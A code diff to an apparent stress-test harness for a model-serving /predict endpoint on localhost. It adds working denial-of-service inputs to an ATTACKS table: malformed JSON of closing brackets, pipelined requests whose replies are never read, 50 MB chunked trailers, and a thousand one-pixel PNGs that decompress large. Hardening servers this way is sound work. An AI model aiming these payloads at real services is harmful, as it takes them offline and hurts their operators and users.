@@ -58,7 +58,7 @@ def _send(media_type: str, body: bytes, *, wait: bool = True) -> Step:
 
 
 def json_bodies() -> Iterator[Step]:
-    """16 MB that cost a parser seconds: lists in lists, empty lists, equal keys, many texts, numbers without end."""
+    """16 MB that cost a parser seconds: lists in lists, empty lists, closing brackets, equal keys, many texts, numbers without end."""
     empty, nested = b"[],", b"[[]],"
     png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(40)).decode().encode()
     bodies = [
@@ -68,6 +68,7 @@ def json_bodies() -> Iterator[Step]:
         b'{"images": [' + (b'"' + png + b'",') * (LIMIT // (len(png) + 3) - 10) + b'""]}',
         b'{"inputs": [[[[' + b"0," * (LIMIT // 2 - 50) + b"0]]]]}",
         b'{"inputs": ' + b"[" * (LIMIT // 2 - 50) + b"]" * (LIMIT // 2 - 50) + b"}",
+        b'{"inputs": [' + b"]" * (LIMIT - 50),
     ]
     # As many right images as a request may have, with long numbers: dear, and to be answered.
     row = b"[[" + b",".join([b"[" + b",".join([b"0.12345678901234567"] * 28) + b"]"] * 28) + b"]]"
@@ -112,10 +113,41 @@ def heads() -> Iterator[Step]:
     return itertools.cycle([lines, one, idle])
 
 
+def unread() -> Iterator[Step]:
+    """Eight requests at once for large answers that are never read, and trailers of 50 MB."""
+    body = b"[" + b",".join([b"[" + b",".join([b"0.5"] * 28) + b"]"] * 28) + b"]"
+    rows = (
+        b'{"members": true, "inputs": [' + b",".join([b"[" + body + b"]"] * 18) + b"]}"
+    )  # below 64 KiB, so that eight may wait
+
+    def asks(connection: socket.socket, number: int) -> None:
+        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+        connection.settimeout(20)
+        for _ in range(200):
+            connection.sendall((head("application/json", len(rows)) + rows) * 8)
+
+    def trailers(connection: socket.socket, number: int) -> None:
+        connection.sendall(
+            b"POST /predict HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
+            b"2\r\n{}\r\n0\r\nX: "
+        )
+        for _ in range(50):
+            connection.sendall(b"a" * 2**20)
+
+    return itertools.cycle([asks, trailers])
+
+
 def large_images() -> Iterator[Step]:
     """Interlaced 16-bit PNGs of 16 million pixels in 100 kB; half of the clients leave at once."""
     body = interlaced_png(SIDE)
     return itertools.cycle([_send("image/png", body), _send("image/png", body, wait=False)])
+
+
+def tiny_images() -> Iterator[Step]:
+    """Images of one pixel, a thousand in a request: what they decode to is much larger than what was sent."""
+    png = base64.b64encode(interlaced_png(1))
+    body = b'{"images": [' + b",".join([b'"' + png + b'"'] * 1000) + b"]}"
+    return itertools.cycle([_send("application/json", body), _send("application/json", body, wait=False)])
 
 
 def interlaced_png(side: int) -> bytes:
@@ -136,6 +168,8 @@ ATTACKS: dict[str, Callable[[], Iterator[Step]]] = {
     "silent bodies": silent_bodies,
     "endless heads and idle connections": heads,
     "large images": large_images,
+    "unread answers and endless trailers": unread,
+    "many tiny images": tiny_images,
 }
 
 if __name__ == "__main__":
